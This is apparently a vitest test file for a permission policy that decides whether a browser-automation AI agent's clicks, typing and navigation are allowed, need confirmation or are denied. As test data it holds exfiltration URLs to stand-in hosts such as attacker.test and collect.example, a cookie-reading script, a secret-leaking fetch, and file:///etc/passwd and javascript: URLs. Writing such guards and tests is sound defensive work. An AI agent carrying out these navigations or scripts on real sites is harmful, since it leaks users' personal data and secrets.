import { describe, expect, it } from 'vitest';
import { SitePermission } from '../../shared/settings';
import { decide } from './decide';
import { approvePlan } from './task-state';
import { el, input, PAGE, SHOP, settings, task } from './test-helpers';
import type { PolicyInput, ReasonCode, Verdict } from './types';

interface Row {
  name: string;
  input: PolicyInput;
  verdict: Verdict;
  codes?: ReasonCode[];
  card?: 'site' | 'step' | 'high-risk';
}

const OTHER = 'https://other.example';
const plan = (origins: string[]) =>
  approvePlan(task(), { summary: 'buy shoes', steps: ['search', 'add to cart'], origins });
const askFirst = settings({ mode: 'ask-before-acting' });

const rows: Row[] = [
  // The ordinary path on an allowed site.
  { name: 'snapshot on an allowed site', input: input('snapshot', 'read'), verdict: 'allow' },
  {
    name: 'click an ordinary button',
    input: input('click', 'act', { pageUrl: PAGE, element: el('Add to cart') }),
    verdict: 'allow',
  },
  {
    name: 'type a search',
    input: input('type', 'act', { pageUrl: PAGE, element: el('Search', { role: 'searchbox' }), value: 'blue shoes' }),
    verdict: 'allow',
  },
  {
    name: 'submit a search form',
    input: input('press_key', 'act', {
      pageUrl: PAGE,
      element: el('Search', { submitsForm: true, form: { hasPassword: false, hasPayment: false } }),
    }),
    verdict: 'allow',
  },
  {
    name: '"My orders" is not ordering',
    input: input('click', 'act', { pageUrl: PAGE, element: el('我的订单', { role: 'link' }) }),
    verdict: 'allow',
  },
  {
    name: '"Payment methods" is not paying',
    input: input('click', 'act', { pageUrl: PAGE, element: el('Payment methods', { role: 'link' }) }),
    verdict: 'allow',
  },
  {
    name: 'typing into a field named Delete is not deleting',
    input: input('type', 'act', {
      pageUrl: PAGE,
      element: el('Delete reason', { role: 'textbox' }),
      value: 'duplicate',
    }),
    verdict: 'allow',
  },
  {
    name: 'navigate within a visited site, even with page data',
    input: input('navigate', 'act', { pageUrl: PAGE, navigation: { url: `${SHOP}/orders/778812`, via: 'navigate' } }),
    verdict: 'allow',
  },
  {
    name: 'a link to another site carrying nothing',
    input: input('click', 'act', {
      pageUrl: PAGE,
      element: el('Docs', { role: 'link', href: `${OTHER}/docs` }),
      navigation: { url: `${OTHER}/docs`, via: 'link' },
    }),
    verdict: 'allow',
  },
  { name: 'a tool with no page', input: input('list_tabs', 'read', {}), verdict: 'allow' },

  // High-risk: always asks.
  {
    name: 'Place order',
    input: input('click', 'act', { pageUrl: PAGE, element: el('Place order') }),
    verdict: 'ask',
    codes: ['risky-name'],
    card: 'high-risk',
  },
  {
    name: '立即购买',
    input: input('click', 'act', { pageUrl: PAGE, element: el('立即购买') }),
    verdict: 'ask',
    codes: ['risky-name'],
  },
  {
    name: '删除',
    input: input('click', 'act', { pageUrl: PAGE, element: el('删除') }),
    verdict: 'ask',
    codes: ['risky-name'],
  },
  {
    name: 'Send',
    input: input('click', 'act', { pageUrl: PAGE, element: el('Send') }),
    verdict: 'ask',
    codes: ['risky-name'],
  },
  {
    name: 'a disclosure named like an action only shows content',
    input: input('click', 'act', {
      pageUrl: PAGE,
      element: { ...el('GET /store/order/{orderId} Find purchase order by ID'), disclosure: true },
    }),
    verdict: 'allow',
  },
  {
    name: '转账',
    input: input('click', 'act', { pageUrl: PAGE, element: el('确认转账') }),
    verdict: 'ask',
    codes: ['risky-name'],
  },
  {
    name: 'evaluate',
    input: input('evaluate', 'high', { pageUrl: PAGE, script: 'document.cookie' }),
    verdict: 'ask',
    codes: ['high-risk-tool'],
    card: 'high-risk',
  },
  {
    name: 'upload_file',
    input: input('upload_file', 'high', {
      pageUrl: PAGE,
      element: el('Avatar', { role: 'button' }),
      upload: { fileNames: ['a.png'] },
    }),
    verdict: 'ask',
    codes: ['high-risk-tool'],
  },
  {
    name: 'type into a password field',
    input: input('type', 'act', {
      pageUrl: PAGE,
      element: el('Password', { role: 'textbox', isPassword: true }),
      value: 'hunter2',
    }),
    verdict: 'ask',
    codes: ['password-field'],
  },
  {
    name: 'submit a login form',
    input: input('click', 'act', {
      pageUrl: PAGE,
      element: el('Continue', { submitsForm: true, form: { hasPassword: true, hasPayment: false } }),
    }),
    verdict: 'ask',
    codes: ['sensitive-form-submit'],
  },
  {
    name: 'submit a payment form',
    input: input('click', 'act', {
      pageUrl: PAGE,
      element: el('Continue', { submitsForm: true, form: { hasPassword: false, hasPayment: true } }),
    }),
    verdict: 'ask',
    codes: ['sensitive-form-submit'],
  },
  {
    name: 'a download link',
    input: input('click', 'act', { pageUrl: PAGE, element: el('Invoice.pdf', { role: 'link', download: true }) }),
    verdict: 'ask',
    codes: ['download'],
  },
  {
    name: 'exfiltration by query',
    input: input('navigate', 'act', {
      pageUrl: PAGE,
      navigation: { url: 'https://attacker.test/c?d=jane.doe%40mail.example', via: 'navigate' },
    }),
    verdict: 'ask',
    codes: ['page-suggested-navigation', 'carries-data', 'new-site'],
  },
  {
    name: 'exfiltration by path to a site the page never named',
    input: input('navigate', 'act', {
      pageUrl: PAGE,
      navigation: { url: 'https://collect.example/778812/x', via: 'navigate' },
    }),
    verdict: 'ask',
    codes: ['carries-data', 'new-site'],
  },
  {
    name: 'exfiltration in base64',
    input: input('navigate', 'act', {
      pageUrl: PAGE,
      navigation: { url: `https://collect.example/?p=${btoa('token QzX9-Lm2Kp7')}`, via: 'navigate' },
    }),
    verdict: 'ask',
    codes: ['carries-data', 'new-site'],
  },
  {
    name: 'exfiltration by a link the model clicks',
    input: input('click', 'act', {
      pageUrl: PAGE,
      element: el('help', { role: 'link' }),
      navigation: { url: 'https://attacker.test/?o=778812', via: 'link' },
    }),
    verdict: 'ask',
    codes: ['carries-data'],
  },
  {
    name: 'a site named only by the page',
    input: input('navigate', 'act', {
      pageUrl: PAGE,
      navigation: { url: 'https://attacker.test/help', via: 'navigate' },
    }),
    verdict: 'ask',
    codes: ['page-suggested-navigation', 'new-site'],
    card: 'high-risk',
  },
  {
    name: 'page data typed into a form posting elsewhere',
    input: input('type', 'act', {
      pageUrl: PAGE,
      element: el('Email', {
        role: 'textbox',
        form: { hasPassword: false, hasPayment: false, action: 'https://attacker.test/collect' },
      }),
      value: 'jane.doe@mail.example',
    }),
    verdict: 'ask',
    codes: ['carries-data'],
  },

  // New sites ask; empty permissions never mean "everything".
  {
    name: 'a new site the user named',
    input: input('navigate', 'act', { pageUrl: PAGE, navigation: { url: 'https://docs.example/', via: 'navigate' } }),
    verdict: 'ask',
    codes: ['new-site'],
    card: 'site',
  },
  {
    name: 'acting on a new site',
    input: input('click', 'act', { pageUrl: `${OTHER}/x`, element: el('Next') }),
    verdict: 'ask',
    codes: ['new-site'],
    card: 'site',
  },
  {
    name: 'acting on a new site granted once',
    input: input(
      'click',
      'act',
      { pageUrl: `${OTHER}/x`, element: el('Next') },
      { task: task({ grants: [{ kind: 'act', origin: OTHER }] }) },
    ),
    verdict: 'allow',
  },
  {
    name: 'a read grant is not an act grant',
    input: input(
      'click',
      'act',
      { pageUrl: `${OTHER}/x`, element: el('Next') },
      { task: task({ grants: [{ kind: 'read', origin: OTHER }] }) },
    ),
    verdict: 'ask',
    codes: ['new-site'],
  },
  {
    name: 'reading the start page needs no ask',
    input: input(
      'snapshot',
      'read',
      { pageUrl: `${OTHER}/x` },
      { task: task({ startOrigin: OTHER }), settings: settings({ sitePermissions: {} }) },
    ),
    verdict: 'allow',
  },
  {
    name: 'acting on the start page asks the first time',
    input: input(
      'click',
      'act',
      { pageUrl: `${OTHER}/x`, element: el('Next') },
      { task: task({ startOrigin: OTHER }), settings: settings({ sitePermissions: {} }) },
    ),
    verdict: 'ask',
    codes: ['new-site'],
  },
  {
    name: 'empty permissions: reading another site asks',
    input: input(
      'snapshot',
      'read',
      { pageUrl: PAGE },
      { settings: settings({ sitePermissions: {} }), task: task({ startOrigin: OTHER }) },
    ),
    verdict: 'ask',
    codes: ['new-site'],
  },
  {
    name: 'a cross-origin frame is its own site',
    input: input('type', 'act', {
      pageUrl: PAGE,
      frameUrl: 'https://pay.example/frame',
      element: el('Card', { role: 'textbox' }),
      value: 'x',
    }),
    verdict: 'ask',
    codes: ['new-site'],
  },

  // Block wins.
  {
    name: 'navigate to a blocked site',
    input: input('navigate', 'act', {
      pageUrl: PAGE,
      navigation: { url: 'https://evil-block.example/', via: 'navigate' },
    }),
    verdict: 'deny',
    codes: ['blocked-site'],
  },
  {
    name: 'a subdomain of a blocked site',
    input: input('snapshot', 'read', { pageUrl: 'https://a.evil-block.example/' }),
    verdict: 'deny',
    codes: ['blocked-site'],
  },
  {
    name: 'block wins over a grant',
    input: input(
      'click',
      'act',
      { pageUrl: 'https://bank.example/', element: el('Next') },
      { task: task({ grants: [{ kind: 'act', origin: 'https://bank.example' }] }) },
    ),
    verdict: 'deny',
    codes: ['blocked-site'],
  },
  {
    name: 'block wins over an approved plan',
    input: input(
      'click',
      'act',
      { pageUrl: 'https://bank.example/', element: el('Next') },
      { task: plan(['https://bank.example']), settings: askFirst },
    ),
    verdict: 'deny',
    codes: ['blocked-site'],
  },
  {
    name: 'act-block leaves reading to its own permission',
    input: input('snapshot', 'read', { pageUrl: 'https://bank.example/' }),
    verdict: 'ask',
    codes: ['new-site'],
  },
  {
    name: 'a blocked frame inside an allowed page',
    input: input('click', 'act', { pageUrl: PAGE, frameUrl: 'https://x.evil-block.example/f', element: el('Ok') }),
    verdict: 'deny',
    codes: ['blocked-site'],
  },
  {
    name: 'a link to a blocked site',
    input: input('click', 'act', {
      pageUrl: PAGE,
      element: el('Go', { role: 'link' }),
      navigation: { url: 'https://evil-block.example/', via: 'link' },
    }),
    verdict: 'deny',
    codes: ['blocked-site'],
  },
  {
    name: 'javascript: URL',
    input: input('navigate', 'act', { pageUrl: PAGE, navigation: { url: 'javascript:alert(1)', via: 'navigate' } }),
    verdict: 'deny',
    codes: ['not-web'],
  },
  {
    name: 'file: URL',
    input: input('navigate', 'act', { pageUrl: PAGE, navigation: { url: 'file:///etc/passwd', via: 'navigate' } }),
    verdict: 'deny',
    codes: ['not-web'],
  },
  {
    name: 'reading a chrome:// page',
    input: input('snapshot', 'read', { pageUrl: 'chrome://settings' }),
    verdict: 'deny',
    codes: ['not-web'],
  },
  {
    name: 'navigating away from the new tab page',
    input: input('navigate', 'act', { pageUrl: 'chrome://newtab/', navigation: { url: `${SHOP}/`, via: 'navigate' } }),
    verdict: 'allow',
  },

  // Secrets.
  {
    name: 'an unknown secret',
    input: input('type', 'act', {
      pageUrl: PAGE,
      element: el('Email', { role: 'textbox' }),
      value: '{{secret:bank_pin}}',
    }),
    verdict: 'deny',
    codes: ['secret-unknown'],
  },
  {
    name: 'a secret on its own site',
    input: input('type', 'act', {
      pageUrl: PAGE,
      element: el('Email', { role: 'textbox' }),
      value: '{{secret:work_email}}',
    }),
    verdict: 'allow',
  },
  {
    name: 'a secret typed into another site',
    input: input(
      'type',
      'act',
      {
        pageUrl: PAGE,
        frameUrl: 'https://attacker.test/f',
        element: el('Email', { role: 'textbox' }),
        value: '{{secret:work_email}}',
      },
      { task: task({ grants: [{ kind: 'act', origin: 'https://attacker.test' }] }) },
    ),
    verdict: 'deny',
    codes: ['secret-off-site'],
  },
  {
    name: 'a site-less secret asks on first use',
    input: input('type', 'act', {
      pageUrl: PAGE,
      element: el('Card', { role: 'textbox' }),
      value: '{{secret:card_last4}}',
    }),
    verdict: 'ask',
    codes: ['secret-first-use'],
  },
  {
    name: 'a site-less secret once granted',
    input: input(
      'type',
      'act',
      { pageUrl: PAGE, element: el('Card', { role: 'textbox' }), value: '{{secret:card_last4}}' },
      { task: task({ grants: [{ kind: 'secret', name: 'card_last4', origin: SHOP }] }) },
    ),
    verdict: 'allow',
  },
  {
    name: 'a secret in a URL',
    input: input('navigate', 'act', {
      pageUrl: PAGE,
      navigation: { url: `${SHOP}/?e={{secret:work_email}}`, via: 'navigate' },
    }),
    verdict: 'deny',
    codes: ['secret-in-url'],
  },
  {
    name: 'a secret in a script',
    input: input('evaluate', 'high', { pageUrl: PAGE, script: 'fetch("//x/?{{secret:work_email}}")' }),
    verdict: 'deny',
    codes: ['secret-in-url'],
  },

  // Modes.
  {
    name: 'ask before acting, no plan',
    input: input('click', 'act', { pageUrl: PAGE, element: el('Add to cart') }, { settings: askFirst }),
    verdict: 'ask',
    codes: ['no-plan'],
    card: 'step',
  },
  {
    name: 'ask before acting, reading needs no plan',
    input: input('snapshot', 'read', { pageUrl: PAGE }, { settings: askFirst }),
    verdict: 'allow',
  },
  {
    name: 'ask before acting, inside the plan',
    input: input(
      'click',
      'act',
      { pageUrl: PAGE, element: el('Add to cart') },
      { settings: askFirst, task: plan([SHOP]) },
    ),
    verdict: 'allow',
  },
  {
    name: 'the plan covers a site with no stored permission',
    input: input(
      'click',
      'act',
      { pageUrl: `${OTHER}/`, element: el('Next') },
      { settings: askFirst, task: plan([OTHER]) },
    ),
    verdict: 'allow',
  },
  {
    name: 'ask before acting, outside the plan',
    input: input(
      'click',
      'act',
      { pageUrl: `${OTHER}/`, element: el('Next') },
      { settings: askFirst, task: plan([SHOP]) },
    ),
    verdict: 'ask',
    codes: ['new-site', 'not-in-plan'],
    card: 'step',
  },
  {
    name: 'a plan with no sites covers nothing',
    input: input('click', 'act', { pageUrl: PAGE, element: el('Add to cart') }, { settings: askFirst, task: plan([]) }),
    verdict: 'ask',
    codes: ['not-in-plan'],
  },
  {
    name: 'the plan never covers high-risk',
    input: input(
      'click',
      'act',
      { pageUrl: PAGE, element: el('Place order') },
      { settings: askFirst, task: plan([SHOP]) },
    ),
    verdict: 'ask',
    codes: ['risky-name'],
    card: 'high-risk',
  },
  {
    name: 'a per-site mode overrides the global one',
    input: input(
      'click',
      'act',
      { pageUrl: PAGE, element: el('Add to cart') },
      {
        settings: settings({
          sitePermissions: { [SHOP]: SitePermission.parse({ read: 'allow', act: 'allow', mode: 'ask-before-acting' }) },
        }),
      },
    ),
    verdict: 'ask',
    codes: ['no-plan'],
  },
];

describe('decide', () => {
  it.each(rows)('$name -> $verdict', (row) => {
    const d = decide(row.input);
    expect(d.verdict, d.reason).toBe(row.verdict);
    if (d.verdict !== 'allow') expect(d.reasons.map((r) => r.code).sort()).toEqual([...(row.codes ?? [])].sort());
    if (row.card) expect(d.verdict === 'ask' && d.ask.kind).toBe(row.card);
  });
});

describe('the confirmation card', () => {
  it('shows exactly what will happen, with the password redacted', () => {
    const d = decide(
      input('type', 'act', {
        pageUrl: PAGE,
        element: el('Password', { role: 'textbox', isPassword: true, ref: 'e9' }),
        value: 'hunter2',
      }),
    );
    if (d.verdict !== 'ask') throw new Error(d.reason);
    expect(d.ask).toMatchObject({
      kind: 'high-risk',
      tool: 'type',
      origin: 'shop.example',
      url: PAGE,
      value: '•••',
      choices: ['once', 'deny'],
    });
    expect(d.ask.element).toEqual({ role: 'textbox', name: 'Password', ref: 'e9', isPassword: true });
    expect(JSON.stringify(d)).not.toContain('hunter2');
  });

  it('keeps a secret as its placeholder', () => {
    const d = decide(
      input('type', 'act', { pageUrl: PAGE, element: el('Card', { role: 'textbox' }), value: '{{secret:card_last4}}' }),
    );
    expect(d.verdict === 'ask' && d.ask.value).toBe('{{secret:card_last4}}');
    expect(d.verdict === 'ask' && d.ask.grants).toEqual([{ kind: 'secret', name: 'card_last4', origin: SHOP }]);
  });

  it('offers "always" for a new site only, and says what it will store', () => {
    const d = decide(
      input('navigate', 'act', { pageUrl: PAGE, navigation: { url: 'https://docs.example/a', via: 'navigate' } }),
    );
    if (d.verdict !== 'ask') throw new Error(d.reason);
    expect(d.ask).toMatchObject({
      kind: 'site',
      action: 'Open https://docs.example/a',
      url: 'https://docs.example/a',
      choices: ['once', 'always', 'deny'],
    });
    expect(d.ask.always).toEqual([{ origin: 'https://docs.example', kind: 'read', permission: 'allow' }]);
    expect(d.ask.grants).toEqual([{ kind: 'read', origin: 'https://docs.example' }]);
  });

  it('shows the script of evaluate and the files of an upload', () => {
    const d = decide(input('evaluate', 'high', { pageUrl: PAGE, script: 'document.title' }));
    expect(d.verdict === 'ask' && d.ask.details).toBe('document.title');
    const u = decide(
      input('upload_file', 'high', { pageUrl: PAGE, element: el('Attach'), upload: { fileNames: ['cv.pdf'] } }),
    );
    expect(u.verdict === 'ask' && u.ask.details).toBe('Files: cv.pdf');
  });

  it('never reveals the data an exfiltrating URL carries in its reasons', () => {
    const d = decide(
      input('navigate', 'act', {
        pageUrl: PAGE,
        navigation: { url: 'https://collect.example/?d=778812', via: 'navigate' },
      }),
    );
    expect(d.verdict).toBe('ask');
    expect(d.reason).not.toContain('778812');
  });
});

describe('a chosen option acts like a click', () => {
  const choose = (value: string, over: Partial<import('./types').TargetFacts> = {}) =>
    decide(
      input('select_option', 'act', {
        pageUrl: PAGE,
        element: el('Bulk action', { role: 'combobox', tag: 'select' }),
        value,
        choice: true,
        ...over,
      }),
    );
  it('"Delete all messages" chosen in a bulk-action menu is high-risk', () => {
    const d = choose('Delete all messages');
    expect(d.verdict).toBe('ask');
    expect(d.verdict === 'ask' && d.ask.kind).toBe('high-risk');
  });
  it('an ordinary option is not', () => expect(choose('Archive read messages').verdict).toBe('allow'));
  it('typed text with a risky word is not an action', () =>
    expect(
      choose('Delete all messages', { choice: undefined, element: el('Search', { role: 'textbox' }) }).verdict,
    ).toBe('allow'));
});
